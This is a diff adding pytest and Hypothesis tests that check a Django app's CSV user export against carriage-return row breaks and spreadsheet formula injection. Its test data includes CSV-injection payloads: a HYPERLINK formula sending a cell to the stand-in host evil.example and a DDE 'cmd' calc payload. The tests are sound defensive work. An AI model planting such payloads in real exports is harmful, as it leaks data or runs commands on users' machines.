@@ -1,10 +1,13 @@
 """Attacks on the commands with wrong arguments and odd files: every one is a one-line error
 (CommandError, exit 1, or a usage error, exit 2) and writes nothing, never a traceback."""
 
+import csv
 import os
 import stat
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from accounts.audit.models import SecurityEvent
 from accounts.models import User
@@ -110,3 +113,102 @@ def test_seed_users_refuses_a_batch_too_big_to_hold_in_memory(size):
 
     assert "--batch-size" in message and "at most 100000" in message
     assert not User.objects.exists()
+
+
+# --- CSV export: a carriage return in a name stays inside its cell -------------------------------
+
+
+def test_export_users_csv_quotes_a_carriage_return_so_the_row_stays_one_row(tmp_path, api_client):
+    # The API keeps a carriage return inside a name; the CSV writer quoted only "\n" (its line
+    # terminator), so the row broke in two: the export no longer imported, nor opened whole.
+    response = api_client.post(
+        "/api/v1/auth/register/",
+        {"email": "cr@example.com", "password": PASSWORD, "first_name": "Ada\rLovelace"},
+        format="json",
+    )
+    assert response.status_code == 201
+    target = tmp_path / "users.csv"
+    run("export_users", "--output", str(target))
+
+    with target.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["first_name"] for row in rows] == ["Ada\rLovelace"]
+    out, _ = run("import_users", str(target))
+    assert "0 created, 0 updated, 1 unchanged" in out
+
+
+# --- CSV export: a name is never a spreadsheet formula -----------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+CRAFTED_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+    "''@x",
+    "'t Hooft",
+    "O'Brien",
+    "plain",
+    "",
+]
+
+
+def test_export_users_csv_never_starts_a_cell_with_a_formula(tmp_path, api_client):
+    for number, name in enumerate(CRAFTED_NAMES):
+        response = api_client.post(
+            "/api/v1/auth/register/",
+            {
+                "email": f"sheet{number}@example.com",
+                "password": PASSWORD,
+                "first_name": name,
+                "last_name": name,
+            },
+            format="json",
+        )
+        assert response.status_code == 201, response.content
+    target = tmp_path / "users.csv"
+    run("export_users", "--output", str(target))
+
+    with target.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))[1:]
+
+    assert len(rows) == len(CRAFTED_NAMES)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), cell
+
+
+@settings(
+    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    first=st.sampled_from(CRAFTED_NAMES) | st.text(alphabet="=+-@'\t\r ab", max_size=8),
+    last=st.sampled_from(CRAFTED_NAMES),
+)
+def test_export_then_import_of_formula_like_names_changes_nothing(tmp_path_factory, first, last):
+    User.objects.all().delete()
+    User.objects.create_user(email="round@example.com", first_name=first, last_name=last)
+    target = tmp_path_factory.mktemp("export") / "users.csv"
+    run("export_users", "--output", str(target))
+
+    out, _ = run("import_users", str(target))
+
+    assert "0 created, 0 updated, 1 unchanged" in out
+    stored = User.objects.get()
+    assert (stored.first_name, stored.last_name) == (first, last)
+
+
+@pytest.mark.parametrize("email", ["-bob@example.com", "+bob@example.com", "=bob@example.com"])
+def test_an_email_that_looks_like_a_formula_round_trips(tmp_path, email):
+    User.objects.create_user(email=email)
+    target = tmp_path / "users.csv"
+    run("export_users", "--output", str(target))
+    assert f"\n{User.objects.get().pk},'{email}," in target.read_text(encoding="utf-8")
+
+    out, _ = run("import_users", str(target))
+
+    assert "0 created, 0 updated, 1 unchanged" in out
+    assert User.objects.get().email == email
